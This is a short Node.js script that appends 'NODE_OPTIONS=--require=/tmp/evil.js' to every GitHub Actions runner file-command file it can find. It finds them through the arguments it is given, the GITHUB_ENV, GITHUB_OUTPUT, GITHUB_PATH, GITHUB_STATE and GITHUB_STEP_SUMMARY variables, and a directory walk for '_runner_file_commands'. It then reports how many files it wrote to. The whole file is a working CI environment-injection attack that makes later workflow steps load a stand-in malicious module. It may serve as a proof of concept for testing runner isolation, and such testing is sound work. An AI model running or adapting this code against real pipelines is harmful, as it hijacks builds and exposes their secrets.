/** Writes to every file by which a step speaks to the runner: those it is told, those of variables, those it finds. */
import { appendFileSync, lstatSync, readdirSync } from 'node:fs';
import path from 'node:path';

const [root, ...known] = process.argv.slice(2).map((text) => text.replace(/^@/, ''));
const named = ['GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_PATH', 'GITHUB_STATE', 'GITHUB_STEP_SUMMARY']
  .map((name) => process.env[name])
  .filter(Boolean);
const found = [];
function walk(folder, depth) {
  if (depth > 6) return;
  let names = [];
  try {
    names = readdirSync(folder);
  } catch {}
  for (const name of names) {
    const place = path.join(folder, name);
    if (place.includes('_runner_file_commands')) found.push(place);
    if (lstatSync(place, { throwIfNoEntry: false })?.isDirectory()) walk(place, depth + 1);
  }
}
walk(root, 0);
let written = 0;
for (const file of new Set([...known, ...named, ...found])) {
  try {
    appendFileSync(file, 'NODE_OPTIONS=--require=/tmp/evil.js\n');
    written += 1;
  } catch {}
}
console.log(`REPORT ${JSON.stringify({ tried: known.length, written })}`);
